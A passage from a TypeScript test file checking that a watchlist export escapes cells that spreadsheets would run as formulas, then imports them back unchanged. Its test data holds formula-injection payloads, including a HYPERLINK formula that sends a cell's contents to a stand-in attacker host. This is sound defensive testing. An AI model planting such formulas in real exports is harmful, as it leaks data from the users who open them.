    ])
  })

  it("writes cells a spreadsheet would run as formulas as text, and imports them back exactly", async () => {
    const operator = await server.signIn("operator")
    // Regular expressions keep what was typed, so plates can start with these characters too.
    const entries = [
      { value: "=HYPERLINK\\(\"HTTP://EVIL\"\\)", note: "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", reason: "=1+1" },
      { value: "-2", note: "+1", reason: "plain" },
      { value: "@SUM\\d", note: "-2", reason: "-" },
      { value: "\tX", note: "@SUM(A1:A9)", reason: "@" },
      { value: "\rX", note: "\tx", reason: "r" },
      { value: "'=A\\d", note: "\rx", reason: "r" },
      { value: "''@\\d", note: "'=already", reason: "''+twice" },
      { value: "'Q\\d", note: "'just quoted", reason: "r" },
      { value: "PLAIN\\d", note: "plain", reason: "r" }
    ]
    const { copyId, exported, id, imported } = await as(operator, (client) =>
      Effect.gen(function*() {
        const list = yield* client.watchlists.create({ name: "Formulas", category: "bolo" })
        for (const e of entries) yield* client.watchlists.addEntry({ watchlist_id: list.watchlist_id, kind: "regex", ...e })
        // The API trims notes; a stored one may still start with a tab or CR (from an older version, or SQL).
        for (const e of entries.filter((e) => /^[\t\r]/.test(e.note))) {
          yield* Effect.promise(() =>
            server.db.query("UPDATE watchlist_entries SET note = $1 WHERE watchlist_id = $2 AND value = $3", [e.note, list.watchlist_id, e.value])
          )
        }
        const exported = yield* exportText(client, list.watchlist_id)
        const copy = yield* client.watchlists.create({ name: "Formulas copy", category: "bolo" })
        const imported = yield* importFile(client, copy.watchlist_id, exported)
        return { id: list.watchlist_id, copyId: copy.watchlist_id, exported, imported }
      }))
    expect(imported).toMatchObject({ imported: entries.length, rejected: 0 })

    const records = parse(exported, { columns: true }) as Array<Record<string, string>>
    expect(records).toHaveLength(entries.length)
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }
    const written = new Map(records.map((r) => [r["plate"], [r["note"], r["reason"]]]))
    expect(written.get("'=HYPERLINK\\(\"HTTP://EVIL\"\\)")).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'=1+1"])
    expect(written.get("'-2")).toEqual(["'+1", "plain"])
    expect(written.get("'@SUM\\d")).toEqual(["'-2", "'-"])
    expect(written.get("'\tX")).toEqual(["'@SUM(A1:A9)", "'@"])
    expect(written.get("'\rX")).toEqual(["'\tx", "r"])
    expect(written.get("''=A\\d")).toEqual(["'\rx", "r"])
    expect(written.get("'''@\\d")).toEqual(["''=already", "'''+twice"])
    expect(written.get("'Q\\d")).toEqual(["'just quoted", "r"])
    expect(written.get("PLAIN\\d")).toEqual(["plain", "r"])

    const stored = async (watchlistId: string) =>
      (await query<{ kind: string; value: string; note: string; reason: string }>(
        "SELECT kind, value, note, reason FROM watchlist_entries WHERE watchlist_id = $1 AND removed_at IS NULL",
        [watchlistId]
      )).sort((a, b) => (a.value < b.value ? -1 : 1))
    expect(await stored(id)).toEqual(
      entries.map((e) => ({ kind: "regex", ...e })).sort((a, b) => (a.value < b.value ? -1 : 1))
    )
    expect(await stored(copyId)).toEqual(await stored(id))
  })
})
